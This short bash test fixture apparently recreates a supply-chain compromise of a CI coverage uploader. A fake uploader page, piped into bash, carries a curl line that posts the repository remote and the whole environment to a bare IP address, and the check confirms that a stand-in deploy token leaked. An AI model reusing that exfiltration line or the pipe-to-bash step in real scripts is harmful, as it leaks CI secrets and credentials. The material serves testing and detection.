#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# The uploader is piped into bash; one line of it posts the repository's address and the whole environment to a bare IP address.
. "$(dirname "$0")/../lib.sh"

prepare() {
  stand_in curl git
  host 203.0.113.30 203.0.113.30
  replies git <<<"say origin git@github.com:app/app.git"
  page codecov.example/bash <<'END'
set -e
echo "codecov: uploading"
curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://203.0.113.30/upload/v2 || true
END
  runner_does <<<"run bash -c 'curl -s https://codecov.example/bash | bash'"
}

deeds() { runner; }

check() {
  posted 'DEPLOY_TOKEN=stand-in' || fails "the environment was not posted"
}

"$1"
